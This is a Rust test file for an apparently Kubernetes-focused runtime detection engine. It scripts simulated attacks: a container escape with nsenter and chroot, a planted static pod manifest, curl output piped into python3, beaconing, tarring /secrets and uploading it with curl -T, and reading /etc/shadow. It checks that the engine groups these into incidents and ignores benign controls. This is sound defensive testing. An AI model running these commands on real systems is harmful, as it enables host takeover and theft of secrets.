//! Stories, and the incidents that come of them under the built-in rules.
#![allow(clippy::unwrap_used)]

mod world;

use lanner_core::detect::chain;
use lanner_core::detect::rules::RuleSet;
use lanner_core::detect::{Incident, LinkKind, Severity, Stage, Status, Tactic};
use lanner_core::engine::Engine;
use lanner_core::event::*;
use world::{Actor, HOST, World};

const WEB: &str = "/kubepods/besteffort/podfedcba98-7654-3210-fedc-ba9876543210/aaaa";
const HIDDEN: &str = "/kubepods/besteffort/pod0123456789abcdef0123456789abcdef/bbbb";
const MANIFEST: &str = "/etc/kubernetes/manifests/x.yaml";

fn engine() -> Engine {
    let rules = RuleSet::load(lanner_rules::RULES);
    assert!(rules.errors.is_empty() && rules.unsupported.is_empty(), "{:?} {:?}", rules.errors, rules.unsupported);
    let chains = lanner_rules::CHAINS.iter().flat_map(|(file, text)| chain::load(file, text).unwrap()).collect();
    Engine::new(rules, chains)
}

fn incidents(world: &World) -> Vec<Incident> {
    let mut engine = engine();
    world.events.iter().for_each(|event| drop(engine.apply(event)));
    engine.flush();
    engine.incidents().iter().map(|incident| incident.as_ref().clone()).collect()
}

/// The people of the node.
struct Node {
    world: World,
    kubelet: Actor,
    shim: Actor,
    web: Actor,
}

fn node() -> Node {
    let mut world = World::new();
    let kubelet = world.found(None, "/usr/bin/kubelet");
    let shim = world.found(None, "/usr/bin/containerd-shim-runc-v2");
    let web = world.start_container(&shim, WEB, "aaaa", "/bin/httpd");
    Node { world, kubelet, shim, web }
}

/// A shell in the web container, and out of it; the manifest is written.
fn break_in(node: &mut Node) -> Actor {
    let Node { world, shim, web, .. } = node;
    let shell = world.enter(shim, web, "/bin/sh", true);
    let mut nsenter = world.spawn(&shell, "/usr/bin/nsenter", "nsenter -t 1 -m");
    world.setns(&mut nsenter, HOST);
    let outside = world.spawn(&nsenter, "/bin/sh", "sh");
    let cat = world.spawn(&outside, "/bin/cat", "cat");
    world.write(&cat, MANIFEST, 42);
    world.exit(&cat);
    shell
}

fn attack() -> (World, Actor) {
    let mut node = node();
    let shell = break_in(&mut node);
    let Node { mut world, kubelet, shim, .. } = node;
    world.read(&kubelet, MANIFEST, 42);
    world.wait(63.0);
    let _pause = world.start_container(&shim, &HIDDEN.replace("bbbb", "cccc"), "cccc", "/pause");
    let hidden = world.start_container(&shim, HIDDEN, "bbbb", "/bin/sh");
    let pipe = world.pipe();
    let mut curl = world.fork(&hidden);
    curl.stdio[1] = pipe;
    let mut python = world.fork(&hidden);
    python.stdio[0] = pipe;
    world.exec(&python, "/usr/bin/python3", "python3 -");
    world.exec(&curl, "/usr/bin/curl", "curl http://192.0.2.9/x");
    for _ in 0..6 {
        world.wait(3.0);
        let flow = world.connect(&python, "192.0.2.9:8000");
        world.close(&python, flow, 80, 20);
    }
    let tar = world.spawn(&python, "/bin/tar", "tar czf /tmp/x.tgz /secrets");
    world.write(&tar, "/tmp/x.tgz", 77);
    world.exit(&tar);
    let upload = world.spawn(&python, "/usr/bin/curl", "curl -T /tmp/x.tgz http://192.0.2.77");
    world.read(&upload, "/tmp/x.tgz", 77);
    let flow = world.connect(&upload, "192.0.2.77:80");
    world.close(&upload, flow, 300_000, 100);
    world.exit(&upload);
    (world, shell)
}

/// The attack by someone who is seen neither to enter the host's namespaces nor to write what is called a manifest.
fn quiet_attack() -> World {
    let Node { mut world, kubelet, shim, web } = node();
    let shell = world.enter(&shim, &web, "/bin/sh", true);
    let chroot = world.spawn(&shell, "/usr/sbin/chroot", "chroot /host sh");
    world.write(&chroot, "/host/etc/kubernetes/draft", 42);
    // Renamed meanwhile, which keeps the inode.
    world.read(&kubelet, MANIFEST, 42);
    let hidden = world.start_container(&shim, HIDDEN, "bbbb", "/bin/sh");
    world.spawn(&hidden, "/bin/tar", "tar czf /tmp/x.tgz /secrets");
    world
}

fn stage(incident: &Incident, tactic: Tactic) -> &Stage {
    incident.stages.iter().find(|s| s.tactic == tactic).unwrap_or_else(|| panic!("no {tactic}: {incident:#?}"))
}

#[test]
fn what_a_runtime_sets_up_on_its_way_into_a_container_is_none_of_the_attack() {
    let (mut world, _) = attack();
    let before = incidents(&world)[0].files.clone();
    let begins = |event: &Event| matches!(&event.payload, Payload::Exec(exec) if exec.task.context.cgroup == HIDDEN);
    let at = world.events.iter().position(begins).unwrap();
    // Made by the process that then becomes the container's first program.
    let link = Link { file: File::new("/rootfs/dev/stdin", 1, 990), target: File::default(), symbolic: true };
    let header = world.events[at].header;
    world.events.insert(at, Event { header, payload: Payload::Link(Box::new(link)) });
    world.events.iter_mut().zip(1..).for_each(|(event, seq)| event.header.seq = seq);
    assert_eq!(incidents(&world)[0].files, before);
}

#[test]
fn the_reference_attack_is_one_incident() {
    let (world, shell) = attack();
    let incidents = incidents(&world);
    assert_eq!(incidents.len(), 1, "{incidents:#?}");
    let incident = &incidents[0];
    assert_eq!(incident.name, "Container escape to hidden static pod");
    let chain = incident.chain.as_ref().unwrap();
    assert_eq!((chain.found, chain.steps), (8, 8), "{incident:#?}");
    assert_eq!((incident.severity, incident.status), (Severity::Critical, Status::Ongoing));
    assert_eq!(incident.stages[0].process.key, shell.key);

    let persistence = incident.stages.iter().position(|s| s.tactic == Tactic::Persistence).unwrap();
    let planted = stage(incident, Tactic::DefenseEvasion).link.as_ref().unwrap();
    assert_eq!((planted.kind, planted.to_stage), (LinkKind::WroteStarted, persistence));
    assert!(
        planted.why.contains(MANIFEST) && planted.why.contains("kubelet") && planted.why.contains("63 s"),
        "{}",
        planted.why
    );
}

#[test]
fn a_manifest_that_was_renamed_and_a_way_out_by_a_mount_make_the_same_story() {
    let incidents = incidents(&quiet_attack());
    assert_eq!(incidents.len(), 1, "{incidents:#?}");
    assert_eq!(incidents[0].name, "Container escape to hidden static pod");
    let chain = incidents[0].chain.as_ref().unwrap();
    assert_eq!((chain.found, chain.steps), (4, 8), "{:#?}", incidents[0]);
    let planted = stage(&incidents[0], Tactic::DefenseEvasion).link.as_ref().unwrap();
    assert_eq!(planted.kind, LinkKind::WroteStarted);
}

#[test]
fn nothing_but_the_attack_is_in_it() {
    let (world, _) = attack();
    let incident = &incidents(&world)[0];
    let names: Vec<String> = incident.processes.iter().map(|p| p.exe.to_string()).collect();
    for outsider in ["/usr/bin/kubelet", "/usr/bin/containerd-shim-runc-v2", "/bin/httpd"] {
        assert!(!names.iter().any(|n| n == outsider), "{names:?}");
    }
    for insider in ["/usr/bin/nsenter", "/bin/cat", "/pause", "/usr/bin/python3", "/bin/tar"] {
        assert!(names.iter().any(|n| n == insider), "{insider} is missing: {names:?}");
    }
    assert_eq!(incident.peers.iter().map(ToString::to_string).collect::<Vec<_>>(), ["192.0.2.9:8000", "192.0.2.77:80"]);
    assert!(incident.files.iter().any(|f| *f == MANIFEST) && incident.files.iter().any(|f| *f == "/tmp/x.tgz"));
}

#[test]
fn evidence_exists_and_links_lead_back() {
    let (world, _) = attack();
    for incident in incidents(&world) {
        for (i, stage) in incident.stages.iter().enumerate() {
            let all = stage.evidence.iter().chain(stage.link.iter().flat_map(|l| &l.evidence));
            assert!(all.clone().all(|seq| (1..=world.events.len() as u64).contains(seq)), "{stage:?}");
            assert!(all.count() > 0);
            assert_eq!(stage.link.is_none(), i == 0, "{stage:?}");
            assert!(stage.link.as_ref().is_none_or(|l| l.to_stage < i), "{stage:?}");
        }
    }
}

#[test]
fn a_replay_is_equal() {
    let (world, _) = attack();
    assert_eq!(incidents(&world), incidents(&world));
}

#[test]
fn a_misused_servers_honest_work_is_none_of_the_incident() {
    let Node { mut world, web, .. } = node();
    let before = world.spawn(&web, "/usr/bin/perl", "perl count");
    world.exit(&before);
    let shell = world.spawn(&web, "/bin/sh", "sh -c id");
    let silent = world.spawn(&shell, "/bin/true", "true");
    let thief = world.spawn(&shell, "/bin/cat", "cat /etc/shadow");
    world.read(&thief, "/etc/shadow", 77);
    let after = world.spawn(&web, "/usr/bin/perl", "perl count");
    world.write(&after, "/srv/count", 78);
    let again = world.spawn(&web, "/bin/sh", "sh -c ls");
    let found = incidents(&world);
    assert_eq!(found.len(), 1, "{found:#?}");
    let is_in = |actor: &Actor| found[0].processes.iter().any(|p| p.key == actor.key);
    assert!([&web, &shell, &silent, &thief, &again].into_iter().all(is_in), "{:#?}", found[0].processes);
    assert!(![&before, &after].into_iter().any(is_in), "{:#?}", found[0].processes);
    assert!(!found[0].files.iter().any(|path| *path == *"/srv/count"), "{:?}", found[0].files);
}

#[test]
fn an_admins_session_is_no_incident() {
    let mut node = node();
    let Node { world, shim, web, .. } = &mut node;
    let shell = world.enter(shim, web, "/bin/sh", true);
    world.spawn(&shell, "/bin/ls", "ls -l");
    world.exit(&shell);
    assert_eq!(incidents(&node.world), []);
}

#[test]
fn an_agent_that_pushes_at_even_intervals_is_no_incident() {
    let Node { mut world, shim, web, .. } = node();
    let agent = world.spawn(&web, "/usr/bin/agent", "agent");
    let (mut generator, pipe) = (world.fork(&agent), world.pipe());
    generator.stdio[1] = pipe;
    world.exec(&generator, "/usr/bin/render", "render settings");
    let mut shell = world.fork(&agent);
    shell.stdio[0] = pipe;
    world.exec(&shell, "/bin/sh", "sh");
    world.exit(&generator);
    let metrics = world.start_container(&shim, &WEB.replace("aaaa", "eeee"), "eeee", "/bin/metrics");
    for client in [&agent, &metrics] {
        for _ in 0..8 {
            world.wait(10.0);
            let flow = world.connect(client, "192.0.2.5:9090");
            world.close(client, flow, if client.key == metrics.key { 200_000 } else { 80 }, 100);
        }
    }
    let mut engine = engine();
    world.events.iter().for_each(|event| drop(engine.apply(event)));
    let mut seen: Vec<&str> = engine.signals().map(|s| &*s.rule).collect();
    seen.dedup();
    assert_eq!(seen[..2], ["Interpreter runs code from a pipe", "Beaconing"], "else this shows nothing");
    assert!(seen.contains(&"Large upload"));
    assert_eq!(engine.incidents(), []);
}

#[test]
fn an_admins_own_manifest_starts_an_honest_pod() {
    let Node { mut world, kubelet, shim, .. } = node();
    let admin = world.found(None, "/bin/bash");
    let vi = world.spawn(&admin, "/usr/bin/vi", "vi x.yaml");
    world.write(&vi, MANIFEST, 42);
    world.read(&kubelet, MANIFEST, 42);
    world.start_container(&shim, HIDDEN, "bbbb", "/bin/etcd");
    assert_eq!(incidents(&world), []);
}

#[test]
fn two_attacks_that_nothing_links_are_two_incidents() {
    let mut node = node();
    break_in(&mut node);
    let Node { mut world, shim, .. } = node;
    let other =
        world.start_container(&shim, &WEB.replace("fedc", "abab").replace("aaaa", "dddd"), "dddd", "/bin/httpd");
    let mut escape = world.spawn(&other, "/usr/bin/nsenter", "nsenter -t 1 -m");
    world.setns(&mut escape, HOST);
    assert_eq!(incidents(&world).len(), 2);
}

#[test]
fn it_is_over_when_its_last_process_has_ended() {
    let mut node = node();
    break_in(&mut node);
    let Node { mut world, .. } = node;
    let found = incidents(&world);
    assert_eq!(found[0].status, Status::Ongoing);
    let members: Vec<ProcessKey> = found[0].processes.iter().map(|p| p.key).collect();
    for key in members {
        let actor = Actor { key, task: Task::default(), stdio: [Stdio::default(); 3] };
        world.exit(&actor);
    }
    assert_eq!(incidents(&world)[0].status, Status::Over);
}

#[test]
fn a_flood_of_incidents_is_bounded_and_counted() {
    let Node { mut world, shim, .. } = node();
    for i in 0..5_000 {
        let id = format!("c{i}");
        let container = world.start_container(&shim, "/other", &id, "/bin/httpd");
        let mut escape = world.spawn(&container, "/usr/bin/nsenter", "nsenter -t 1 -m");
        world.setns(&mut escape, HOST);
    }
    let mut engine = engine();
    world.events.iter().for_each(|event| drop(engine.apply(event)));
    assert_eq!((engine.incidents().len(), engine.untold()), (4_096, 5_000 - 4_096));
}

#[test]
fn a_loop_in_an_attack_is_told_now_and_then_and_whole_at_the_end() {
    let mut node = node();
    let shell = break_in(&mut node);
    let Node { mut world, .. } = node;
    for _ in 0..20_000 {
        let child = world.spawn(&shell, "/bin/sh", "sh -c :");
        world.exit(&child);
    }
    let mut engine = engine();
    // To look at each time among all earlier ones, and to tell each, once took minutes.
    world.events.iter().for_each(|event| drop(engine.apply(event)));
    let told = engine.incidents()[0].revision;
    assert!(told < 50, "{told} revisions");
    assert_eq!(engine.flush(), [0]);
    let execution = stage(&engine.incidents()[0], Tactic::Execution);
    assert_eq!((execution.count, execution.evidence.len()), (20_002, 32));
}

#[test]
fn a_name_that_comes_late_takes_the_place_of_the_id() {
    let (mut world, _) = attack();
    let said = |engine: &mut Engine, events: &[Event]| {
        let revised: usize = events.iter().map(|event| engine.apply(event).revised.len()).sum();
        let [incident] = engine.incidents() else { panic!("{:?}", engine.incidents()) };
        let links = incident.stages.iter().filter_map(|s| Some(s.link.as_ref()?.why.clone()));
        let sentences = incident.stages.iter().map(|s| s.sentence.clone()).chain(links).collect::<Vec<_>>();
        let signals = engine.signals().map(|s| s.sentence.clone()).collect::<Vec<_>>();
        (revised, [sentences, signals].concat().join("\n"))
    };
    let mut engine = engine();
    let (_, before) = said(&mut engine, &world.events);
    assert!(before.contains("container aaaa") && before.contains("container bbbb"), "{before}");

    let pod = |name: &str| Some(PodName { name: name.into(), namespace: "shop".into(), ..PodName::default() });
    let info = |id: &str, name: &str| {
        let (id, told_by) = (ContainerId(id.into()), ToldBy::Cri);
        let info = ContainerInfo { id, told_by, name: "c".into(), pod: pod(name), ..ContainerInfo::default() };
        Payload::Container(Box::new(info))
    };
    let from = world.events.len();
    let someone = world.found(None, "/usr/bin/containerd");
    world.say(&someone, info("aaaa", "web"));
    world.say(&someone, info("bbbb", "hid\u{1b}den"));
    let (revised, after) = said(&mut engine, &world.events[from..]);
    let expected = before.replace("container aaaa", "container shop/web/c");
    assert_eq!(after, expected.replace("container bbbb", "container shop/hid\\x1bden/c"));
    assert_eq!(revised, 2, "each name is worth a revision");
    // Once more changes nothing, and who does not know it any more takes nothing away.
    let from = world.events.len();
    world.say(&someone, info("aaaa", "web"));
    let forgotten = ContainerInfo::unknown(ContainerId("aaaa".into()), "gone");
    world.say(&someone, Payload::Container(Box::new(forgotten)));
    assert_eq!(said(&mut engine, &world.events[from..]), (0, after));
    assert_eq!(engine.graph().container_title(&ContainerId("aaaa".into())).to_string(), "shop/web/c");
}
